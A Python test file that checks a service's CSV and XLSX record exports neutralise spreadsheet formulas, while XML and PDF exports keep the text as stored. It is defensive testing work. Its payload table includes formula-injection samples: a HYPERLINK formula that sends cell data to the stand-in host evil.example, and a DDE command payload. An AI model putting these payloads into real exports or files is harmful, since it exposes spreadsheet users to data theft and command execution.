"""Exports cannot run formulas: a table of payloads through CSV and XLSX, read back."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from gateway.campaigns.exports import is_formula, neutralised
from gateway.db.models import Role
from tests.api.conftest import Api
from tests.api.test_records import upload

# (stored text, what the CSV cell must read)
PAYLOADS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+12125550100", "+12125550100"),  # a plain number is read, never run
    ("-5", "-5"),
    ("Ann = Bob", "Ann = Bob"),
    ("a-b", "a-b"),
    ("", ""),
]


@pytest.mark.parametrize(("stored", "cell"), PAYLOADS)
def test_the_csv_rule(stored: str, cell: str) -> None:
    assert neutralised(stored) == cell
    assert is_formula(stored) == (cell != stored)


async def _campaign_with_payloads(api: Api) -> int:
    c = await api.campaign()
    phones = [f"+1212555{1000 + i}" for i in range(len(PAYLOADS))]
    status, report = await upload(api, c["id"], ("phone\n" + "\n".join(phones) + "\n").encode())
    assert (status, report["added"]) == (200, len(PAYLOADS)), report
    async with api.engine.begin() as conn:
        for phone, (stored, _) in zip(phones, PAYLOADS, strict=True):
            await conn.execute(
                text(
                    "UPDATE records SET name = :v, skill = :v, agent = :v, reason = :v "
                    "WHERE campaign_id = :cid AND phone = :phone"
                ),
                {"v": stored, "cid": c["id"], "phone": phone},
            )
    return int(c["id"])


async def _export(api: Api, cid: int, fmt: str) -> bytes:
    response = await api.client.get(
        f"/v1/campaigns/{cid}/records/export?format={fmt}", headers=api.auth(Role.REVIEWER)
    )
    assert response.status == 200
    return await response.read()


@pytest.mark.db
async def test_csv_export_writes_formulas_as_text(api: Api) -> None:
    cid = await _campaign_with_payloads(api)
    rows = list(csv.DictReader(io.StringIO((await _export(api, cid, "csv")).decode(), newline="")))
    assert len(rows) == len(PAYLOADS)
    for row, (_, cell) in zip(rows, PAYLOADS, strict=True):
        assert [row["name"], row["skill"], row["agent"], row["reason"]] == [cell] * 4
        assert row["phone"].startswith("+1212555")  # E.164 numbers are left as they are


@pytest.mark.db
async def test_xlsx_export_has_string_cells_and_no_formula(api: Api) -> None:
    cid = await _campaign_with_payloads(api)
    body = await _export(api, cid, "xlsx")
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml")
    assert re.search(rb"<f[ >]", sheet_xml) is None
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    picks = [header.index(n) for n in ("name", "skill", "agent", "reason")]
    for row, (stored, _) in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        for i in picks:
            if stored:
                # XML reads a raw CR back as LF (line-end normalisation); still a string cell
                assert (row[i].data_type, row[i].value) == ("s", stored.replace("\r", "\n"))
            else:
                assert row[i].value in (None, "")


@pytest.mark.db
async def test_xml_and_pdf_keep_the_text_unchanged(api: Api) -> None:
    cid = await _campaign_with_payloads(api)
    body = (await _export(api, cid, "xml")).decode()
    assert "<name>=cmd|' /C calc'!A0</name>" in body
    assert "<name>@SUM(A1:A9)</name>" in body
    assert "'=" not in body
    assert (await _export(api, cid, "pdf")).startswith(b"%PDF")
